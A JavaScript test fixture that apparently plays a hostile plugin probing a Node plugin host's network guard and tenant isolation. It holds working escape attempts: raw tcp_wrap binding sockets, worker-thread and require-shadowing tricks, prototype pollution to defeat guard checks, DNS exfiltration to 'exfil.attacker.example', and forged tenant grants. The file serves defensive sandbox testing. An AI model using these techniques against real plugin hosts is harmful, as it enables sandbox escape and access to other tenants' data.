'use strict';
// A hostile Node plugin: POST /attack with the targets (JSON) runs every attempt and
// answers a list of {area, attempt, through, detail}, and the evidence of those only an
// OS boundary stops (containment.js).
//
// An attempt got through when the guard did not stop it: it reached its target, or it
// failed for another reason (no such host, connection refused), which means it was on the
// network. Every connection that is made sends the attempt's name (its marker), so the
// test's victim servers can confirm it.
const net = require('node:net');
const http = require('node:http');
const dns = require('node:dns');
const dgram = require('node:dgram');
const crypto = require('node:crypto');
const workerThreads = require('node:worker_threads');
const containment = require('./containment.js');

const EGRESS = 'egress (Node guard)';
const TAMPER = 'guard tamper (Node)';
const TENANT = 'tenant (Node plugin)';
// EACCES: what the guard answers below net (the TCP/UDP handles) with.
const GUARD_CODES = new Set(['POWERX_EGRESS_BLOCKED', 'EACCES', 'REFUSED']);

class Refused extends Error {
  constructor(message) {
    super(message);
    this.code = 'REFUSED';
  }
}

function refusedByGuard(error) {
  const errors = error && error.errors ? error.errors : [error]; // AggregateError: each attempt
  return errors.every((e) => e && (GUARD_CODES.has(e.code) || GUARD_CODES.has(e.cause && e.cause.code)));
}

function connect(options, marker) {
  return new Promise((resolve, reject) => {
    const socket = net.connect(options, () => {
      socket.end(`${marker}\n`);
      resolve(`connected to ${socket.remoteAddress}:${socket.remotePort}`);
    });
    socket.on('error', reject);
  });
}

function get(url) {
  return new Promise((resolve, reject) => {
    http.get(url, (response) => {
      response.resume();
      resolve(`HTTP ${response.statusCode}`);
    }).on('error', reject);
  });
}

function sendUdp(host, port, marker) {
  return new Promise((resolve, reject) => {
    const socket = dgram.createSocket('udp4');
    socket.on('error', (error) => { socket.close(); reject(error); });
    socket.send(marker, port, host, (error) => {
      socket.close();
      if (error) reject(error);
      else resolve(`sent to ${host}:${port}`);
    });
  });
}

function hostApi(path, headers) {
  const base = new URL(process.env.POWERX_HOST_URL);
  return new Promise((resolve, reject) => {
    http.get({
      host: base.hostname, port: base.port, path: `/host/api${path}`,
      headers: { authorization: `Bearer ${process.env.POWERX_PLUGIN_TOKEN}`, ...headers },
    }, (response) => {
      let body = '';
      response.on('data', (chunk) => { body += chunk; });
      response.on('end', () => (response.statusCode < 300
        ? resolve(body.slice(0, 150)) : reject(new Refused(`${response.statusCode} ${body.slice(0, 150)}`))));
    }).on('error', reject);
  });
}

// A worker that connects to the victim and reports back.
const WORKER_CONNECT = (net, port, marker) => `
  const socket = ${net}.connect(${port}, '127.0.0.1', () => {
    socket.end(${JSON.stringify(marker)} + '\\n');
    require('node:worker_threads').parentPort.postMessage('connected');
  });
  socket.on('error', (e) => require('node:worker_threads').parentPort.postMessage('error ' + e.code));
`;

function runWorker(WorkerClass, code, options) {
  return new Promise((resolve, reject) => {
    const worker = new WorkerClass(code, { eval: true, ...options });
    worker.once('message', (message) => {
      void worker.terminate();
      if (message === 'connected') resolve('the worker connected');
      else reject(Object.assign(new Error(message), { code: message.split(' ')[1] }));
    });
    worker.once('error', reject);
  });
}

function originalWorker(victim) {
  const { Worker } = workerThreads;
  const candidates = [Object.getPrototypeOf(Worker), Worker.prototype.constructor];
  const original = candidates.find((c) => typeof c === 'function' && c !== Worker && c.name === 'Worker');
  if (!original) throw new Refused('the original Worker class is out of reach');
  return runWorker(original, WORKER_CONNECT("require('node:net')", victim, 'original_worker_class'));
}

function workerShadowingRequire(victim) {
  // A declaration hoisted above the guard's prelude, if the prelude shares the script.
  const code = `function require(name) {
    if (name === 'node:worker_threads') return module.constructor._load(name);
    return { install() {} };
  }
  ${WORKER_CONNECT("module.constructor._load('node:net')", victim, 'worker_shadowing_require')}`;
  return runWorker(workerThreads.Worker, code);
}

function workerWithInternals() {
  const code = `
    const { parentPort } = require('node:worker_threads');
    try { require('internal/test/binding'); parentPort.postMessage('connected'); }
    catch (e) { parentPort.postMessage('error REFUSED ' + e.code); }`;
  return runWorker(workerThreads.Worker, code, { execArgv: ['--expose-internals', '--no-warnings'] });
}

function bindingConnect(victim) {
  const { TCP, TCPConnectWrap, constants } = process.binding('tcp_wrap');
  return new Promise((resolve, reject) => {
    const handle = new TCP(constants.SOCKET);
    const request = new TCPConnectWrap();
    request.oncomplete = (status) => {
      handle.close();
      if (status === 0) resolve('connected through the binding');
      else reject(Object.assign(new Error(`status ${status}`), { code: `status ${status}` }));
    };
    const error = handle.connect(request, '127.0.0.1', victim);
    if (error) reject(Object.assign(new Error(`error ${error}`), { code: error === -13 ? 'EACCES' : String(error) }));
  });
}

async function polluted(victim) {
  const saved = [Set.prototype.has, Array.prototype.some, String.prototype.startsWith];
  Set.prototype.has = () => true;
  Array.prototype.some = () => true;
  String.prototype.startsWith = () => true;
  try {
    return await connect({ host: '127.0.0.1', port: victim }, 'prototype_pollution');
  } finally {
    [Set.prototype.has, Array.prototype.some, String.prototype.startsWith] = saved;
  }
}

function inspectorSession() {
  const inspector = require('node:inspector');
  const session = new inspector.Session();
  session.connect();
  session.disconnect();
  return 'an inspector session on the plugin itself';
}

async function run(targets, request) {
  const results = [];
  async function attempt(area, name, action) {
    try {
      const detail = await action();
      results.push({ area, attempt: name, through: true, detail: String(detail).slice(0, 300) });
    } catch (error) {
      const detail = `${error && error.code}: ${error && (error.cause ? error.cause.message : error.message)}`;
      results.push({ area, attempt: name, through: !refusedByGuard(error), detail: detail.slice(0, 300) });
    }
  }
  const victim = targets.victim_tcp;
  const machine = targets.machine_address;
  const simulatorPort = Number(new URL(process.env.POWERX_HOST_URL).port);
  const lookupTo = (address) => (host, options, callback) => (options && options.all
    ? callback(null, [{ address, family: 4 }]) : callback(null, address, 4));

  await attempt(EGRESS, 'http_get_other_port', () => get(`http://127.0.0.1:${victim}/http_get_other_port`));
  await attempt(EGRESS, 'http_get_127_0_0_2', () => get(`http://127.0.0.2:${victim}/http_get_127_0_0_2`));
  if (machine) {
    await attempt(EGRESS, 'http_get_machine_address', () => get(`http://${machine}:${victim}/http_get_machine_address`));
  }
  await attempt(EGRESS, 'net_connect_other_port', () => connect({ host: '127.0.0.1', port: victim }, 'net_connect_other_port'));
  await attempt(EGRESS, 'fetch_other_port', async () => `HTTP ${(await fetch(`http://127.0.0.1:${victim}/fetch_other_port`)).status}`);
  await attempt(EGRESS, 'custom_lookup_maps_allowed_name', () => connect(
    { host: 'allowed.example', port: victim, lookup: lookupTo('127.0.0.1') }, 'custom_lookup_maps_allowed_name'));
  if (machine && targets.victim_at_machine_simulator_port) {
    await attempt(EGRESS, 'name_starting_127', () => connect(
      { host: '127.attacker.example', port: simulatorPort, lookup: lookupTo(machine) }, 'name_starting_127'));
  }
  await attempt(EGRESS, 'udp_send_loopback', () => sendUdp('127.0.0.1', targets.victim_udp, 'udp_send_loopback'));
  // Short resolver timeouts: where the guard lets a query out, it fails fast without DNS.
  const quick = { timeout: 500, tries: 1 };
  await attempt(EGRESS, 'dns_resolve4_production', () => new Promise((resolve, reject) => {
    new dns.Resolver(quick).resolve4('api.powerx.io', (error, found) => (error ? reject(error) : resolve(String(found))));
  }));
  await attempt(EGRESS, 'dns_promises_resolver', async () => String(
    await new dns.promises.Resolver(quick).resolveTxt('exfil.attacker.example')));
  await attempt(EGRESS, 'dns_lookup_production', () => dns.promises.lookup('api.powerx.io'));

  await attempt(TAMPER, 'original_worker_class', () => originalWorker(victim));
  await attempt(TAMPER, 'worker_shadowing_require', () => workerShadowingRequire(victim));
  await attempt(TAMPER, 'worker_with_internals', workerWithInternals);
  await attempt(TAMPER, 'process_binding_tcp_wrap', () => bindingConnect(victim));
  await attempt(TAMPER, 'prototype_pollution', () => polluted(victim));
  await attempt(TAMPER, 'inspector_session', inspectorSession);
  await attempt(TAMPER, 'dns_set_servers', () => {
    dns.setServers([`127.0.0.1:${targets.victim_udp}`]);
    return 'resolver pointed at another server';
  });

  const other = targets.other_tenant;
  const ownGrant = request.headers.get('x-powerx-grant') || '';
  await attempt(TENANT, 'tenant_header', () => hostApi('/kv/greeting', { 'x-powerx-tenant': other }));
  await attempt(TENANT, 'tenant_with_the_requests_grant', () => hostApi('/kv/greeting',
    { 'x-powerx-tenant': other, 'x-powerx-grant': ownGrant }));
  await attempt(TENANT, 'tenant_with_a_forged_grant', () => hostApi('/kv/greeting',
    { 'x-powerx-tenant': other, 'x-powerx-grant': crypto.randomBytes(32).toString('hex') }));
  return results.concat(containment.attempts(targets));
}

module.exports = {
  async fetch(request) {
    const targets = await request.json();
    return Response.json(await run(targets, request));
  },
};
